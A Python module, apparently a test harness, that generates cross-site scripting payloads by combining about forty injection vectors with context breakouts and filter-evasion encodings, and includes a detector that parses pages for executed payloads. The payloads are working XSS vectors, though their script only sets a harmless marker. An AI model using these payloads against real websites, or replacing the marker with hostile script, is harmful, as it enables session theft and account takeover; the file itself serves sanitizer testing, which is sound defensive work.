"""Words that want to run as script: vectors × contexts × encodings; each would set `MARK` in the top window."""

import re
from itertools import product
from typing import Final

from lxml import html

MARK: Final = "__x"
JS: Final = f"top.{MARK}=1"
VECTORS: Final = (
    "<script>{js}</script>",
    "<script src=data:text/javascript,{js}></script>",
    "<img src=x onerror={js}>",
    "<img src onerror='{js}'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{js}><text y=9>x",
    "<math><mi xlink:href=javascript:{js}>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<p tabindex=1 autofocus onfocus={js}>x</p>",
    "<video src=x onerror={js}></video>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={js}>x</b>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href=javascript:{js}//>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<a href=javascript:{js}>x</a>",
    "<a href=data:text/html,<script>{js}</script>>x</a>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><img src=x onerror={js}>-->",
    "<x contenteditable autofocus onfocus={js}>x</x>",
    " autofocus onfocus={js} x=",
    "javascript:{js}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "-{js}-",
    "${{{js}}}",
)
CONTEXTS: Final = ("", '">', "'>", "</title>", "</script>", "</textarea>", "</style>", "-->", '"', "\\", "*/;")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace(":", "&#58")


def _broken(text: str) -> str:
    odd = re.sub(r"<(\w{2,})", lambda tag: f"<{tag[1].title()}/", text)
    return odd.replace("javascript", "java\tscript")


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E")


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace("script", "\u017fcript")


def _shouted(text: str) -> str:
    return text.upper().replace(JS.upper(), JS)


ENCODINGS: Final = (str, _shouted, _entities, _broken, _escaped, _percent, _wide)
PAYLOADS: Final = tuple(
    dict.fromkeys(
        context + encode(vector.format(js=JS)) for vector, context, encode in product(VECTORS, CONTEXTS, ENCODINGS)
    )
)
_ADDRESSES: Final = frozenset({"href", "src", "action", "formaction", "data", "poster", "background", "content"})
_RUNS: Final = re.compile(
    r"\s*(?:\d+\s*;\s*url\s*=\s*)?(?:java\s*script|vbscript|data\s*:\s*text)", re.IGNORECASE | re.ASCII
)
_SCRIPTS: Final = frozenset({"", "text/javascript", "application/javascript", "module"})


def fitting(longest: int, *, skip: int = 0) -> str:
    """Return as many payloads as fit a length, from one on, a line apart."""
    words = ""
    for payload in PAYLOADS[skip % len(PAYLOADS) :]:
        if len(words) + len(payload) + 1 > longest:
            break
        words += f"{payload} "
    return words.strip() or PAYLOADS[0][:longest]


def running(page: str) -> list[str]:
    """Return what of a page would run, or lead to what runs, and came from a payload."""
    found = []
    for element in html.document_fromstring(page or "<p>").iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag == "script" and element.get("type", "").lower() in _SCRIPTS and MARK in (element.text or ""):
            found.append(f"script: {element.text}")
        for name, value in element.attrib.items():
            plain = str(name).rpartition("}")[2].rpartition(":")[2].lower()
            if MARK.lower() not in value.lower():
                continue
            if plain.startswith("on") or (plain in _ADDRESSES and _RUNS.match(value)) or plain == "srcdoc":
                found.append(f"{element.tag} {name}={value}")
    return found
